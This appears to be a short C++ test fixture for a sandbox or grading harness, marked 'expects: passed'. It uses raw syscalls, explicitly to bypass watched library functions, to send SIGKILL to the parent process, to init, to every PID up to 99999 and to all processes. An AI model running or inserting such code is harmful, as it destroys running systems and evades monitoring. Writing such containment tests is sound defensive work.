// SPDX-License-Identifier: MIT
// Kills all that it can reach.
// expects: passed
//@ top
#include <cstdio>
#include <unistd.h>
/* The kernel's calls, past the functions of the library that are watched. */
static long raw(long n, long a = 0, long b = 0, long c = 0, long d = 0, long e = 0) { return syscall(n, a, b, c, d, e); }
#include <csignal>
#include <unistd.h>
//@ in overlap
    raw(62, getppid(), SIGKILL);
    raw(62, 1, SIGKILL);
    for (int pid = 2; pid < 100000; pid++)
        if (pid != getpid())
            raw(62, pid, SIGKILL);
    raw(62, -1, SIGKILL);
